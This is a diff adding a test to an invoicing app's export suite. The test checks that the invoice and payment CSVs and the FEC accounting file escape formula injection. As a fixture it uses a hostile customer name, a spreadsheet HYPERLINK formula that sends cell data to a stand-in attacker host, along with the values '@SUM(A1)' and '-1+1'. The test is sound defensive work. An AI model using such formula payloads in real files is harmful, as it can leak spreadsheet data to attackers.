@@ -229,6 +229,34 @@ describe('invoicing exports: CSV', () => {
   });
 });
 
+describe('every export the PWA downloads, with a hostile customer', () => {
+  it('writes the name as text in both CSVs and the FEC, amounts (negative ones too) as numbers', async () => {
+    const relais = authTestApp();
+    const docs = seed(relais);
+    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const pirate = contact(relais, String(docs.nord.id), { nom: hostile, code: '-1+1' });
+    const invoice = validated(relais, '2026-11-20', { entreprise_id: String(docs.nord.id), contact_id: pirate.id, lignes: [ligne(1, 2_500)] });
+    validated(relais, '2026-11-21', { entreprise_id: String(docs.nord.id), contact_id: pirate.id, type_facture: 'avoir', facture_origine_id: invoice.id, lignes: [ligne(-1, 1_250)] });
+    reglement(relais, invoice, '2026-11-22', 1_500, 'virement', '@SUM(A1)');
+    setDay(relais, '2026-11-27');
+    const { compta } = await users(relais);
+    const query = `du=2026-11-01&au=2026-11-30&entreprise_id=${String(docs.nord.id)}`;
+    const factures = (await csvOf(await call(relais.app, 'GET', `/api/invoicing/exports/factures.csv?${query}`, { token: compta }), ';')).rows;
+    const reglements = (await csvOf(await call(relais.app, 'GET', `/api/invoicing/exports/reglements.csv?${query}`, { token: compta }), ';')).rows;
+    const fec = (await (await call(relais.app, 'GET', `/api/invoicing/exports/fec?${query}`, { token: compta })).text()).split('\r\n').map((line) => line.split('\t'));
+    expect(factures.filter((row) => row[4] === `'${hostile}`).map((row) => row.slice(6, 9))).toEqual([
+      ['25,00', '5,00', '30,00'],
+      ['-12,50', '-2,50', '-15,00'],
+    ]);
+    expect(reglements.at(-1)).toEqual(['22/11/2026', invoice.numero, `'${hostile}`, 'Virement', "'@SUM(A1)", '15,00']);
+    expect(fec.filter((row) => row[7] === `'${hostile}`).length).toBeGreaterThanOrEqual(3);
+    // Not one cell of the three files a spreadsheet would run; minus signs only on amounts.
+    for (const cell of [...factures, ...reglements, ...fec].flat()) {
+      expect(/^[=+@\t\r]/.test(cell) || (cell.startsWith('-') && !/^-\d+,\d\d$/.test(cell)), cell).toBe(false);
+    }
+  });
+});
+
 describe('invoicing exports: FEC', () => {
   it('writes the 18 columns, balanced entries and the totals of documentTotals, named <SIREN>FEC<end>.txt', async () => {
     const relais = authTestApp();
